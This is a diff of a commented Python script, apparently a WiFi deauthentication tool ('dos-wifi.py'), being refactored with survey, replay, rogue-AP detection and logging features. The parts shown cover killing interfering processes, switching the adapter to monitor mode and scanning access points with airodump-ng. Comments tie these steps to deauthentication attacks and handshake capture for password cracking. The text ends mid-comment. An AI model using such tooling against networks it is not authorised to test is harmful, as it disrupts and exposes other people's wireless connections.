@@ -1,81 +1,215 @@
 #!/usr/bin/env python3
 #This ensures the script runs using Python 3.
 
+import argparse
 import subprocess
-import re
 import csv
+import functools
 import os
-import time
 import shutil
+import signal
+import sys
+import tempfile
+import time
 from datetime import datetime 
+from wifiscan.channels import ChannelOccupancy
+from wifiscan.events import ChangeTracker, JsonlSink
+from wifiscan.history import SignalHistory
+from wifiscan.ingest import CsvIngestor
+from wifiscan.interfaces import discover_interfaces
+from wifiscan.registry import AccessPointRegistry
+from wifiscan.render import TableRenderer
+from wifiscan.replay import Replayer
+from wifiscan.rogue import RogueDetector
+from wifiscan.scheduler import CadenceAdapter, CostAdapter, Scheduler
+from wifiscan.server import StatusServer
+from wifiscan.stations import StationIndex
+from wifiscan.stats import Profiler, ScanStats
+from wifiscan.supervisor import CaptureSupervisor
+from wifiscan.survey import EMIT, FORMATS, SurveyLimit, SurveyWriter
+from wifiscan.store import SurveyStore
+from wifiscan.tools import ToolBackend
+from wifiscan.vendors import VendorIndex
+from wifiscan.watch import make_watcher
 
 """
+- argparse: Reads the optional command-line arguments (e.g., --db).
 - subprocess: Allows your script to run system commands and programs, acting as a terminal interface.
-- re: Provides regular expressions for pattern matching.
 - csv: Handles reading and writing of CSV files.
 - os: Interacts with the operating system, including file handling and environment variables.
-- time: Enables delays for better execution control.
+- tempfile: Creates the temporary directory used by replay mode (--replay).
+- functools / signal / sys: Let a headless survey (--headless) be stopped with SIGTERM, and write its messages to stderr.
 - shutil: Short for "shell utilities," it simplifies file and directory operations with high-level functions, 
   offering more convenience than the basic os module.
 - datetime: Used for generating timestamps.
+- wifiscan.ingest.CsvIngestor: Reads the .csv files written by airodump-ng incrementally, returning only the rows 
+  that changed since the last look (see wifiscan/ingest.py, next to this script).
+- wifiscan.channels.ChannelOccupancy: Per-channel AP counts, congestion and a recommended channel (see wifiscan/channels.py).
+- wifiscan.events.ChangeTracker / JsonlSink: Turns each tick’s changed rows into appeared/updated/disappeared events (see wifiscan/events.py).
+- wifiscan.history.SignalHistory: Rolling signal statistics per access point (see wifiscan/history.py).
+- wifiscan.interfaces.discover_interfaces: Finds the WiFi adapters in /sys/class/net (see wifiscan/interfaces.py).
+- wifiscan.registry.AccessPointRegistry: Keeps the detected access points indexed by BSSID (see wifiscan/registry.py).
+- wifiscan.watch.make_watcher: Waits until airodump-ng writes new output, using Linux inotify (see wifiscan/watch.py).
+- wifiscan.render.TableRenderer: Draws the live table, redrawing only the cells that changed (see wifiscan/render.py).
+- wifiscan.replay.Replayer: Plays back recorded scans in place of airodump-ng for --replay (see wifiscan/replay.py).
+- wifiscan.rogue.RogueDetector: Optional evil twin / rogue AP alerts for --detect-rogues (see wifiscan/rogue.py).
+- wifiscan.server.StatusServer: Optional local HTTP/WebSocket view of the scan for --serve (see wifiscan/server.py).
+- wifiscan.stats.ScanStats / Profiler: Timing counters and an optional profiler for the scan loop (see wifiscan/stats.py).
+- wifiscan.supervisor.CaptureSupervisor: Keeps airodump-ng running, restarting it if it dies or stalls (see wifiscan/supervisor.py).
+- wifiscan.survey.SurveyWriter / SurveyLimit: Stream a headless survey as JSON lines or CSV, and end it (see wifiscan/survey.py).
+- wifiscan.store.SurveyStore: Optional SQLite database recording every scan (see wifiscan/store.py).
+- wifiscan.tools.ToolBackend: Runs airmon-ng and airodump-ng, or stand-ins for them (see wifiscan/tools.py).
+- wifiscan.vendors.VendorIndex: Looks up the manufacturer of each access point from its BSSID (see wifiscan/vendors.py).
 """
 
-active_wireless_networks = []
-# Create an empty list
-
-def check_for_essid(essid, lst):
-    check_status = True
-    if len(lst) == 0:
-        return check_status
-    for item in lst:
-        if essid == item["ESSID"]:
-            check_status = False
-    return check_status
+active_wireless_networks = AccessPointRegistry()
+# Create an empty registry of access points
 
 """
-This function checks whether a given wireless network name (ESSID) already exists in a list of network dictionaries. 
-It helps prevent duplicate networks from being added to the active_wireless_networks list in your script.
-
-Input:
-- essid: A string representing the network name (e.g., "MyWiFi").
-- lst: A list of dictionaries, where each dictionary represents a wireless network and has an "ESSID" key 
-  (e.g., [{"BSSID": "00:11:22:33:44:55", "ESSID": "MyWiFi"}, ...]).
-
-Output:
-- True if the ESSID is not in the list (or the list is empty), meaning it’s okay to add it.
-- False if the ESSID is already in the list, meaning it’s a duplicate.
-
-Step-by-Step Explanation:
-
-1. Function Definition:
-   - def check_for_essid(essid, lst): 
-   - Defines a function named check_for_essid that takes two parameters: essid and lst.
-
-2. Initialize check_status:
-   - check_status = True
-   - Assumes the ESSID is unique and can be added.
-
-3. Check if List is Empty:
-   - if len(lst) == 0:
-   - If the list is empty, return True immediately (no duplicates exist).
-
-4. Loop Through the List:
-   - for item in lst:
-   - Iterates over each dictionary (item) in the list lst.
+This registry (see wifiscan/registry.py) holds every access point seen during the scan.
+It replaces the plain list and the check_for_essid() function used by earlier versions of this script.
+
+How it works:
+- Each access point is stored under its BSSID (the AP’s MAC address), which is unique per radio, 
+  so two APs broadcasting the same network name (ESSID) are both kept.
+- active_wireless_networks.upsert(row) either adds a new AP or updates the existing entry in place, 
+  so Power and Last_time_seen stay current instead of freezing at the first sighting.
+- Looking up a BSSID is a single dictionary access, no matter how many APs have been seen. 
+  The old check_for_essid() walked the whole list for every CSV row.
+- active_wireless_networks.bssids_for_essid("MyWiFi") returns the BSSIDs broadcasting "MyWiFi".
+- It still behaves like a list where the rest of the script needs it: len(), for loops and 
+  indexing such as active_wireless_networks[0] all follow the order in which APs were first seen.
+"""
 
-5. Check for ESSID Match:
-   - if essid == item["ESSID"]:
-   - Compares the given essid with the "ESSID" value in each dictionary.
-   - If a match is found, set check_status to False (ESSID is a duplicate).
+parser = argparse.ArgumentParser(description="Scan nearby WiFi networks with airodump-ng and pick one to test.")
+parser.add_argument("--db", metavar="PATH", help="record every scan in this SQLite survey database")
+parser.add_argument("--replay", metavar="PATH", help="replay a directory of recorded CSV snapshots or a pcap/pcapng capture instead of scanning live (no root or WiFi adapter needed)")
+parser.add_argument("--replay-speed", type=float, default=1.0, metavar="N", help="replay N times faster than recorded; 0 means as fast as possible (default: 1)")
+parser.add_argument("--tools", metavar="DIR", help="run airmon-ng and airodump-ng from DIR instead of the system (e.g. benchmarks/fake-tools; default: $DOS_WIFI_TOOLS)")
+parser.add_argument("--oui", metavar="PATH", help="OUI file (IEEE oui.txt or Wireshark manuf) for the VENDOR column (default: the system's copy, else a short bundled list)")
+parser.add_argument("--events", metavar="PATH", help="append AP appeared/updated/disappeared events to this JSON lines file ('-' for stdout)")
+parser.add_argument("--age-out", type=float, default=60.0, metavar="SECONDS", help="report an AP as disappeared after SECONDS without a sighting (default: 60)")
+parser.add_argument("--detect-rogues", action="store_true", help="alert on possible evil twins: known ESSIDs on new BSSIDs, mismatched encryption, BSSIDs changing channel")
+parser.add_argument("--clients", action="store_true", help="read the station section too and show associated clients and client churn per AP")
+parser.add_argument("--headless", action="store_true", help="survey only: no prompts, no table and no attack; stream the APs seen to --output (for cron or systemd)")
+parser.add_argument("--interface", metavar="NAME", help="WiFi interface to scan with, instead of asking (required with --headless, unless replaying)")
+parser.add_argument("--duration", type=float, metavar="SECONDS", help="with --headless, stop after SECONDS")
+parser.add_argument("--until-stable", type=float, metavar="SECONDS", help="with --headless, stop once no new AP has appeared for SECONDS")
+parser.add_argument("--output", default="-", metavar="PATH", help="with --headless, append the survey to PATH (default: '-', stdout)")
+parser.add_argument("--format", choices=FORMATS, default="jsonl", help="with --headless, write JSON lines or CSV (default: jsonl)")
+parser.add_argument("--emit", choices=EMIT, default="deltas", help="with --headless, write every change (deltas) or every AP at intervals (snapshots; default: deltas)")
+parser.add_argument("--snapshot-every", type=float, default=60.0, metavar="SECONDS", help="with --emit snapshots, seconds between snapshots (default: 60)")
+parser.add_argument("--buffer", type=int, default=1000, metavar="LINES", help="with --headless, most lines held before they are written (default: 1000)")
+parser.add_argument("--serve", metavar="[HOST:]PORT", help="serve the AP list as JSON and push updates over WebSocket on HOST:PORT (HOST defaults to 127.0.0.1)")
+parser.add_argument("--stats", metavar="PATH", help="write scan loop timing counters to this JSON file (every 10 s and on exit)")
+parser.add_argument("--profile", choices=("cprofile", "tracemalloc"), help="profile the scan loop with cProfile or tracemalloc")
+parser.add_argument("--profile-ticks", type=int, default=50, metavar="N", help="number of scan loop ticks to profile (default: 50)")
+parser.add_argument("--profile-output", metavar="PATH", help="where to write the profile (default: scan-<profiler>.txt)")
+args = parser.parse_args()
+if args.oui and not os.access(args.oui, os.R_OK):
+    parser.error(f"--oui: cannot read {args.oui}")
+if args.headless:
+    if not args.replay and not args.interface:
+        parser.error("--headless needs --interface (there is nobody to ask)")
+    if args.events == "-" and args.output == "-":
+        parser.error("--events and --output cannot both be stdout")
+    if not args.replay and ".csv" in args.output and os.path.dirname(os.path.abspath(args.output)) == os.getcwd():
+        parser.error("--output: the .csv files in this directory are taken for airodump-ng's; write the survey elsewhere")
+    for name in ("duration", "until_stable", "snapshot_every", "buffer"):
+        if getattr(args, name) is not None and getattr(args, name) <= 0:
+            parser.error(f"--{name.replace('_', '-')} must be positive")
+    # The survey may be going to stdout: everything else the script says goes to stderr.
+    print = functools.partial(print, file=sys.stderr)
+    # systemctl stop (SIGTERM) ends the survey the way Ctrl+C does, stopping airodump-ng on the way out.
+    signal.signal(signal.SIGTERM, signal.default_int_handler)
+elif args.duration or args.until_stable:
+    parser.error("--duration and --until-stable need --headless")
+
+survey_store = SurveyStore(args.db) if args.db else None
+tools = ToolBackend.from_environment(args.tools)
+status_server = None
+if args.serve:
+    serve_host, _, serve_port = args.serve.rpartition(":")
+    if not serve_port.isdigit() or int(serve_port) > 65535:
+        parser.error("--serve: expected [HOST:]PORT, e.g. 8080 or 0.0.0.0:8080")
+    try:
+        status_server = StatusServer(serve_host.strip("[]") or "127.0.0.1", int(serve_port)).start()
+    except OSError as error:
+        parser.error(f"--serve: cannot listen on {args.serve}: {error.strerror or error}")
+    print(f"Serving the AP list on {status_server.url}aps, with updates over WebSocket on /ws.")
 
-6. Return the Result:
-   - return check_status
-   - If no match is found, returns True (ESSID is unique).
-   - If a match is found, returns False (ESSID is a duplicate).
+"""
+This code reads the optional command-line arguments and, if requested, opens the survey database.
+
+1. argparse.ArgumentParser(...) / parser.add_argument("--db", ...)
+   - Describes the arguments the script accepts; "sudo ./dos-wifi.py --help" lists them.
+   - --db PATH: Path of a SQLite database file (created if missing), e.g. "--db survey.db".
+   - --replay PATH / --replay-speed N: Replay mode (see below, where airodump-ng is started).
+   - --tools DIR: Directory holding stand-ins for airmon-ng and airodump-ng. The ones in 
+     benchmarks/fake-tools/ come with a fake /sys tree reporting made-up adapters and write synthetic airodump-ng CSV files, so the 
+     whole scan can run without root or a WiFi adapter (e.g. in CI). The attack is skipped with them.
+   - --oui PATH: Where to look up the manufacturer shown in the VENDOR column. By default the copy of the IEEE 
+     registry installed by airodump-ng-oui-update (or the ieee-data package) is used if there is one, and a 
+     short list of common WiFi vendors bundled in wifiscan/data/oui.txt otherwise. A PATH that cannot be 
+     read is reported straight away (parser.error prints the usage and exits), not when the first 
+     frame is drawn.
+   - --events PATH / --age-out SECONDS: Append a JSON object per change to PATH as the scan runs: an AP 
+     appeared, one of its fields changed (e.g. {"event": "updated", "bssid": "...", "changes": {"channel": [6, 11]}}), 
+     or it was not seen for SECONDS and disappeared (see the scanning loop below).
+   - --detect-rogues: Watch for evil twins and other rogue APs while scanning (see the scanning loop below).
+   - --clients: Also read the clients (stations) airodump-ng reports, and show how many are associated with 
+     each AP and how often they come and go, for capacity planning (see the scanning loop below).
+   - --headless: Survey only, for cron jobs, systemd services and monitoring pipelines. Nothing is asked (the 
+     interface comes from --interface), no table is drawn, and the script ends after the scan without ever 
+     getting to the attack: nothing is transmitted. What the scan sees is streamed (see wifiscan/survey.py):
+     - --output PATH / --format jsonl|csv: Where and how ('-', the default, is stdout; the file is appended to, 
+       and a CSV file gets its header only once). Everything else the script prints goes to stderr.
+     - --emit deltas|snapshots: Every change (an AP appeared, one of its fields changed, or it disappeared), 
+       or every AP seen so far each --snapshot-every seconds and once more at the end.
+     - --duration SECONDS / --until-stable SECONDS: End after SECONDS, or once no new BSSID has appeared for 
+       SECONDS (the site has been surveyed), whichever comes first. Without either, the survey runs until it is 
+       stopped with Ctrl+C or SIGTERM (systemctl stop), or the reader of stdout goes away.
+     - --buffer LINES: The most lines held in memory before they are written (the changes of a tick are 
+       written together, in pieces of LINES), so memory stays bounded however busy the site is.
+     For example: dos-wifi.py --headless --interface wlan0 --until-stable 300 --duration 3600 --format csv 
+     --output /var/log/survey/$(date +%F).csv
+   - --interface NAME: The WiFi interface to scan with, instead of choosing it from a list.
+   - --serve [HOST:]PORT: Watch the scan from another screen or program (see status_server below).
+   - --stats PATH: JSON file that receives the scan loop’s timing counters (see the scanning loop below).
+   - --profile cprofile|tracemalloc, --profile-ticks N, --profile-output PATH: Profile the first N 
+     passes of the scanning loop with Python’s cProfile (where the time goes, per function) or 
+     tracemalloc (where memory is allocated, per line) and write the report to a file. This makes it 
+     possible to investigate a slow scan without editing the script.
+
+2. args = parser.parse_args()
+   - Reads the arguments given on the command line; args.db is None when --db was not used.
+   - With --headless, checks the survey options (parser.error prints the usage and exits if one is missing or 
+     wrong), points print at stderr so that the survey can have stdout to itself, and makes SIGTERM raise 
+     KeyboardInterrupt like Ctrl+C does, so that a stopped service still stops airodump-ng and closes its files.
+
+3. survey_store = SurveyStore(args.db) if args.db else None
+   - SurveyStore (wifiscan/store.py) keeps three tables: scans (one per run), access_points (one per 
+     BSSID, with its first and last sighting across all runs) and observations (one per AP update, 
+     with power, beacons and channel). BSSID, ESSID, channel and time are indexed.
+   - Historical questions then take milliseconds instead of re-reading old CSV files, e.g.:
+     python3 -m wifiscan.store survey.db first-seen 00:11:22:33:44:55
+   - Without --db, survey_store is None and nothing is recorded.
+
+4. status_server = StatusServer(...).start()  (only with --serve)
+   - StatusServer (wifiscan/server.py) listens on PORT (on 127.0.0.1, so only this machine can connect, unless 
+     another HOST is given, e.g. "--serve 0.0.0.0:8080" for a wall display elsewhere on the network), in a 
+     background thread, using only Python's standard library:
+     - http://127.0.0.1:8080/aps returns every AP seen so far as JSON, e.g. for curl or a monitoring system;
+     - ws://127.0.0.1:8080/ws is a WebSocket that receives the same list once, then, after every pass of the scan 
+       loop that changed something, only what changed: new APs in full, known ones with just their BSSID and the 
+       fields that changed (e.g. {"bssid": "...", "power": -48}).
+   - Each message is encoded once per pass however many viewers there are, so a dozen screens cost the scan no 
+     more than one. A viewer that cannot keep up is disconnected instead of making the script buffer for it.
+   - A port that is already in use (or a malformed --serve) is reported straight away with parser.error.
 """
 
 
-if not 'SUDO_UID' in os.environ.keys():
+if not args.replay and tools.needs_root and not 'SUDO_UID' in os.environ.keys():
     print("Root access is required. Please execute this with sudo.")
     exit()
 
@@ -101,16 +235,19 @@ Step-by-Step Explanation:
    - Returns True if the script was launched with sudo (root privileges), otherwise False.
 """
 
-for file_name in os.listdir():
-    if ".csv" in file_name:
-        print("Existing .csv files detected in your directory. Moving them to a backup folder now.")
-        directory = os.getcwd()
-        try:
-            os.mkdir(directory + "/backup/")
-        except:
-            print("The backup directory is already present.")
-        timestamp = datetime.now()
-        shutil.move(file_name, directory + "/backup/" + str(timestamp) + "-" + file_name)
+if not args.replay:
+    for file_name in os.listdir():
+        if ".csv" in file_name:
+            print("Existing .csv files detected in your directory. Moving them to a backup folder now.")
+            directory = os.getcwd()
+            try:
+                os.mkdir(directory + "/backup/")
+            except:
+                print("The backup directory is already present.")
+            if survey_store:
+                survey_store.import_csv(file_name)
+            timestamp = datetime.now()
+            shutil.move(file_name, directory + "/backup/" + str(timestamp) + "-" + file_name)
         
 """
 This code is a cleanup routine that runs near the start of your script. 
@@ -169,13 +306,19 @@ Its purpose is to:
    - Prints a message if the `backup/` directory already exists and `os.mkdir()` failed.
    - When: Runs only if an exception occurs in the `try` block.
 
-9. **timestamp = datetime.now():**
+9. **if survey_store: survey_store.import_csv(file_name):**
+   - Only when the script was started with `--db`.
+   - Reads the access points of the leftover `.csv` file and stores them in the survey database as a 
+     scan of their own (dated by the file’s modification time), so the old results stay queryable 
+     after the file is moved out of the way.
+
+10. **timestamp = datetime.now():**
    - `datetime.now()` comes from the `datetime` module (`from datetime import datetime`).
    - It returns the current date and time as a `datetime` object.
    - Example: `2025-03-13 15:45:23.123456`.
    - Purpose: Generates a unique timestamp to prepend to the filename, ensuring moved files do not overwrite each other.
 
-10. **shutil.move(file_name, directory + "/backup/" + str(timestamp) + "-" + file_name):**
+11. **shutil.move(file_name, directory + "/backup/" + str(timestamp) + "-" + file_name):**
     - `shutil.move(src, dst)`: A function from the `shutil` module that moves a file from `src` to `dst`.
     - Arguments:
       - `file_name`: The source filename (e.g., `file-01.csv`).
@@ -194,87 +337,64 @@ Its purpose is to:
   but it is simply renaming and relocating the original file's content.
 """
 
-wlan_pattern = re.compile("^wlan[0-9]+")
-check_wifi_result = wlan_pattern.findall(subprocess.run(["iwconfig"], capture_output=True).stdout.decode())
+if not args.replay:
+    wireless_interfaces = discover_interfaces(tools.sysfs_root)
+    check_wifi_result = [interface.name for interface in wireless_interfaces]
 
-if len(check_wifi_result) == 0:
-    print("No WiFi adapter found. Please attach one and retry.")
-    exit()
+    if len(check_wifi_result) == 0:
+        print("No WiFi adapter found. Please attach one and retry.")
+        exit()
 
 """
-This piece of code detects available WiFi adapters on a system using regular expressions (re module) 
-and system commands (subprocess.run()). Below is a detailed explanation of how it works:
-
-1. Understanding the Regular Expression:
-   wlan_pattern = re.compile("^wlan[0-9]+")
-   - Creates a compiled regular expression (regex) pattern using re.compile().
-   - The pattern "^wlan[0-9]+" matches wireless network interfaces (e.g., wlan0, wlan1, wlan2, etc.).
-
-   Breaking Down the Pattern:
-   - ^: Matches the beginning of the string, ensuring that the interface name starts with "wlan".
-   - wlan: The literal string "wlan", which is the standard prefix for WiFi interfaces in Linux.
-   - [0-9]+: Matches one or more digits (0-9), ensuring we match interface names like wlan0, wlan1, wlan2, etc.
-
-   Examples of Matches:
-   ✅ Valid Matches:
-      - wlan0
-      - wlan1
-      - wlan10
-      - wlan23
-
-   ❌ Invalid Matches (will not match):
-      - eth0 (Ethernet adapter)
-      - lo (Loopback interface)
-      - wlan (Missing number)
-      - wlanX (Contains a letter instead of a number)
-
-2. Running the iwconfig Command:
-   check_wifi_result = wlan_pattern.findall(subprocess.run(["iwconfig"], capture_output=True).stdout.decode())
-
-   Breaking it Down:
-   - subprocess.run(["iwconfig"], capture_output=True).stdout.decode()
-     - Runs the Linux command iwconfig, which displays network interfaces and their wireless settings.
-     - Example output of iwconfig:
-
-       wlan0     IEEE 802.11  ESSID:off/any  
-                 Mode:Managed  Access Point: Not-Associated   
-                 Tx-Power=20 dBm   
-       lo        no wireless extensions.
-       eth0      no wireless extensions.
-
-     - subprocess.run(["iwconfig"]): Executes the iwconfig command.
-     - capture_output=True: Captures the command’s output instead of printing it to the terminal.
-     - .stdout: Accesses the standard output of iwconfig as a bytes object.
-     - .decode(): Converts the bytes output to a string (using UTF-8 by default).
-
-   - wlan_pattern.findall(...):
-     - Uses the regex pattern wlan_pattern to find all matching wireless interface names (e.g., wlan0, wlan1) 
-       in the iwconfig output.
-
-3. Example Output of check_wifi_result:
-   - If the system has a wireless interface wlan0:
-     check_wifi_result = ["wlan0"]
-
-   - If the system has multiple interfaces (wlan0 and wlan1):
-     check_wifi_result = ["wlan0", "wlan1"]
-
+This piece of code finds the WiFi adapters of the system by reading what the Linux kernel publishes 
+under /sys/class/net (see wifiscan/interfaces.py). Below is a detailed explanation of how it works:
+
+1. wireless_interfaces = discover_interfaces(tools.sysfs_root)
+   - tools.sysfs_root is "/sys", or the fake tree that comes with the stand-in tools (--tools).
+   - /sys/class/net has one entry per network interface (wlan0, wlp3s0, eth0, lo ...). An interface 
+     is wireless if its entry has a "wireless" directory or a "phy80211" link to its radio.
+   - For each wireless interface, discover_interfaces() returns:
+     - name: e.g. "wlan0", "wlp3s0" (predictable names) or "wlan0mon".
+     - phy: the radio it belongs to, e.g. "phy0".
+     - driver: e.g. "ath9k_htc", read from the "device/driver" link.
+     - mode: "monitor" if the interface is already in monitor mode, otherwise "managed".
+     - monitor_capable: whether the radio supports monitor mode at all, asked from the kernel over 
+       nl80211 (True/False), or None if that could not be found out.
+   - The result is cached, so asking again later costs nothing.
+
+   Why not iwconfig?
+   - The script used to run iwconfig and match "^wlan[0-9]+" against its output. iwconfig is 
+     deprecated and slow to start, and the pattern missed interfaces named like wlp3s0 as well as 
+     interfaces already in monitor mode (wlan0mon).
+
+2. check_wifi_result = [interface.name for interface in wireless_interfaces]
+   - Keeps just the names, e.g. ["wlan0", "wlp3s0"], for the menu below.
    - If there are no WiFi adapters:
      check_wifi_result = []
+   - In that case the script prints a message and exits.
 """
 
-print("Here are the available WiFi interfaces:")
-for index, item in enumerate(check_wifi_result):
-    print(f"{index} - {item}")
+if not args.replay and args.interface:
+    if args.interface not in check_wifi_result:
+        print(f"No WiFi interface named {args.interface}; found: {', '.join(check_wifi_result)}.")
+        exit(1)
+    wifi_interface_choice = check_wifi_result.index(args.interface)
+elif not args.replay:
+    print("Here are the available WiFi interfaces:")
+    for index, item in enumerate(check_wifi_result):
+        print(f"{index} - {item} ({wireless_interfaces[index].describe()})")
 
-while True:
-    wifi_interface_choice = input("Which interface would you like to use for the attack? ")
-    try:
-        if check_wifi_result[int(wifi_interface_choice)]:
-            break
-    except:
-        print("Enter a valid number from the list provided.")
+    while True:
+        wifi_interface_choice = input("Which interface would you like to use for the attack? ")
+        try:
+            if check_wifi_result[int(wifi_interface_choice)]:
+                break
+        except:
+            print("Enter a valid number from the list provided.")
 
-hacknic = check_wifi_result[int(wifi_interface_choice)]
+if not args.replay:
+    hacknic = check_wifi_result[int(wifi_interface_choice)]
+    monitor_interface = hacknic if wireless_interfaces[int(wifi_interface_choice)].mode == "monitor" else hacknic + "mon"
 
 """
 This section of code is responsible for displaying a list of detected wireless interfaces (e.g., wlan0, wlan1) 
@@ -283,10 +403,14 @@ It ensures that the user picks a valid WiFi adapter before proceeding.
 
 ### Line-by-Line Explanation:
 
+0. **if not args.replay and args.interface:**
+   - With --interface NAME (always the case with --headless), nothing is asked: `wifi_interface_choice` is the 
+     position of NAME in check_wifi_result, and the script exits if there is no such interface.
+
 1. **print("Here are the available WiFi interfaces:")**
    - Prints a header message to inform the user that a list of WiFi interfaces is about to be displayed.
    - This follows the earlier check where check_wifi_result was populated with wireless interfaces 
-     (e.g., ["wlan0", "wlan1"]) using iwconfig and regex.
+     (e.g., ["wlan0", "wlp3s0"]) from /sys/class/net.
 
 2. **for index, item in enumerate(check_wifi_result):**
    - `enumerate(check_wifi_result)`:
@@ -298,13 +422,14 @@ It ensures that the user picks a valid WiFi adapter before proceeding.
    - `for index, item in ...`:
      - Loops over these pairs, assigning `index` (an integer) and `item` (a string like "wlan0").
 
-3. **print(f"{index} - {item}")**
-   - Uses an f-string (`f"...")` to embed `index` and `item` directly in the output.
-   - Example output if `check_wifi_result = ["wlan0", "wlan1"]`:
+3. **print(f"{index} - {item} ({wireless_interfaces[index].describe()})")**
+   - Uses an f-string (`f"...")` to embed `index`, `item` and a short description of the adapter 
+     (radio, driver, monitor mode) directly in the output.
+   - Example output if `check_wifi_result = ["wlan0", "wlp3s0"]`:
      ```
      Here are the available WiFi interfaces:
-     0 - wlan0
-     1 - wlan1
+     0 - wlan0 (phy0, driver ath9k_htc, monitor mode supported)
+     1 - wlp3s0 (phy1, driver iwlwifi, no monitor mode)
      ```
    - The numbered list provides an easy way for the user to select an interface.
 
@@ -349,13 +474,22 @@ It ensures that the user picks a valid WiFi adapter before proceeding.
 10. **hacknic = check_wifi_result[int(wifi_interface_choice)]**
     - Assigns the selected wireless interface (e.g., `"wlan0"`) to the variable `hacknic`.
     - Stores the user’s choice from `check_wifi_result` so it can be used in the next steps of the script.
+
+11. **monitor_interface = ...**
+    - The name of the interface to scan with: normally `hacknic + "mon"` (e.g., `"wlan0mon"`, created by 
+      airmon-ng below), or `hacknic` itself if the chosen interface is already in monitor mode.
 """
 
-print("WiFi adapter is ready!\nLet’s terminate any interfering processes:")
-kill_confilict_processes = subprocess.run(["sudo", "airmon-ng", "check", "kill"])
+tool_output = sys.stderr if args.headless else None
+if not args.replay:
+    print("WiFi adapter is ready!\nLet’s terminate any interfering processes:")
+    kill_confilict_processes = tools.run("airmon-ng", "check", "kill", root=True, stdout=tool_output)
 
-print("Switching the WiFi adapter to monitor mode:")
-put_in_monitored_mode = subprocess.run(["sudo", "airmon-ng", "start", hacknic])
+    if monitor_interface == hacknic:
+        print(f"{hacknic} is already in monitor mode.")
+    else:
+        print("Switching the WiFi adapter to monitor mode:")
+        put_in_monitored_mode = tools.run("airmon-ng", "start", hacknic, root=True, stdout=tool_output)
 
 """
 Purpose:
@@ -366,15 +500,18 @@ subsequent scanning and deauthentication steps.
 
 Code:
 # Killing Interfering Processes
-kill_confilict_processes = subprocess.run(["sudo", "airmon-ng", "check", "kill"])
+kill_confilict_processes = tools.run("airmon-ng", "check", "kill", root=True)
 
 # Switching WiFi Adapter to Monitor Mode
 print("Switching the WiFi adapter to monitor mode:")
-put_in_monitored_mode = subprocess.run(["sudo", "airmon-ng", "start", hacknic])
+put_in_monitored_mode = tools.run("airmon-ng", "start", hacknic, root=True)
+
+tools.run(name, *args, root=True) runs ["sudo", name, *args] with subprocess.run(); with --tools it runs 
+the stand-in from that directory, without sudo.
 
 Explanation:
 1. Killing Interfering Processes
-   - Code: kill_confilict_processes = subprocess.run(["sudo", "airmon-ng", "check", "kill"])
+   - Code: kill_confilict_processes = tools.run("airmon-ng", "check", "kill", root=True)
    - What This Does:
      - Runs the command: sudo airmon-ng check kill
      - 'airmon-ng check kill' detects and terminates processes that might interfere with WiFi 
@@ -388,21 +525,33 @@ Explanation:
 
 2. Switching WiFi Adapter to Monitor Mode
    - Code: print("Switching the WiFi adapter to monitor mode:")
-           put_in_monitored_mode = subprocess.run(["sudo", "airmon-ng", "start", hacknic])
+           put_in_monitored_mode = tools.run("airmon-ng", "start", hacknic, root=True)
    - What This Does:
      - Runs the command: sudo airmon-ng start <WiFi_interface>
      - '<WiFi_interface>' is the user-selected interface (e.g., wlan0), stored in 'hacknic'.
      - This command switches the WiFi adapter from Managed Mode to Monitor Mode.
      - In Monitor Mode, the adapter can capture all wireless packets within range.
+     - Skipped if the chosen interface is already in monitor mode (monitor_interface == hacknic).
    - Why This Is Necessary:
      - Most WiFi adapters default to Managed Mode (communicating only with connected networks).
      - Monitor Mode is required for:
        - Packet sniffing (capturing WiFi traffic).
        - Deauthentication attacks (disconnecting devices from a network).
        - Handshake capturing (for password cracking with aircrack-ng).
+
+3. stdout=tool_output
+   - With --headless, the output of airmon-ng goes to stderr like the script's own messages, so that it does not 
+     end up in a survey written to stdout. Otherwise tool_output is None and it appears in the terminal as usual.
 """
 
-discover_access_points = subprocess.Popen(["sudo", "airodump-ng","-w" ,"file","--write-interval", "1","--output-format", "csv", hacknic + "mon"], stdout=subprocess.DEVNULL, stderr=subprocess.DEVNULL)
+if args.replay:
+    scan_directory = tempfile.mkdtemp(prefix="dos-wifi-replay-")
+    scan_interface, scan_source = None, os.path.abspath(args.replay)
+    replayer = Replayer(args.replay, scan_directory, speed=args.replay_speed).start()
+else:
+    scan_directory = "."
+    scan_interface, scan_source = monitor_interface, "airodump-ng"
+    discover_access_points = CaptureSupervisor(tools, ["-w", "file", "--write-interval", "1", "--output-format", "csv", monitor_interface]).start()
 
 """
 Launches airodump-ng in the background to scan for nearby wireless access points and stations.
@@ -410,6 +559,17 @@ Writes scan results to a CSV file continuously, which the script later reads to
 This marks the start of the network discovery phase, running asynchronously while the script processes the output.
 
 Line Breakdown:
+0. CaptureSupervisor(tools, [...]).start()
+   - Starts airodump-ng with the arguments in the list (the command in step 2, with "sudo" in front) 
+     from a background thread, and keeps it running: if airodump-ng exits, or stops writing its .csv 
+     file for 5 seconds, it is stopped and started again after a delay that doubles on each failure 
+     (1 s, 2 s, 4 s ... up to 30 s). A restarted airodump-ng writes file-02.csv, file-03.csv and so on, 
+     which the scan loop reads as well. The state of the capture and the reason for the last restart 
+     are shown on the bottom line of the scan table, so a long unattended scan cannot silently stop.
+   - With --tools, the stand-in airodump-ng from that directory is started instead (see wifiscan/tools.py).
+   - Steps 1-4 below describe how airodump-ng itself is started (see wifiscan/supervisor.py); its 
+     error output is kept by the supervisor instead of being discarded.
+
 1. subprocess.Popen([...])
    - Description: A function from the subprocess module (imported earlier with 'import subprocess').
    - Behavior: Unlike subprocess.run(), which waits for command completion, Popen starts a process and 
@@ -417,7 +577,7 @@ Line Breakdown:
    - Purpose: airodump-ng is a long-running tool that scans until stopped (e.g., with Ctrl+C). Popen 
      enables it to run continuously while the script reads the output file in a loop.
 
-2. Command List: ["sudo", "airodump-ng", "-w", "file", "--write-interval", "1", "--output-format", "csv", hacknic + "mon"]
+2. Command List: ["sudo", "airodump-ng", "-w", "file", "--write-interval", "1", "--output-format", "csv", monitor_interface]
    - Components:
      - 'sudo': Runs the command with superuser privileges, required for airodump-ng to access the 
        network interface in monitor mode.
@@ -436,11 +596,11 @@ Line Breakdown:
        - Option: Defines the output file format.
        - 'csv': Comma-separated values, a structured format parsable by the csv module.
        - Purpose: Facilitates programmatic reading of AP details (e.g., BSSID, ESSID, channel).
-     - 'hacknic + "mon"':
-       - 'hacknic': The selected wireless interface (e.g., "wlan0") from earlier 
-         (hacknic = check_wifi_result[int(wifi_interface_choice)]).
-       - '+ "mon"': Appends "mon" to form the monitor mode interface name (e.g., "wlan0mon").
+     - 'monitor_interface':
+       - Normally hacknic + "mon": the selected wireless interface (e.g., "wlan0") with "mon" appended 
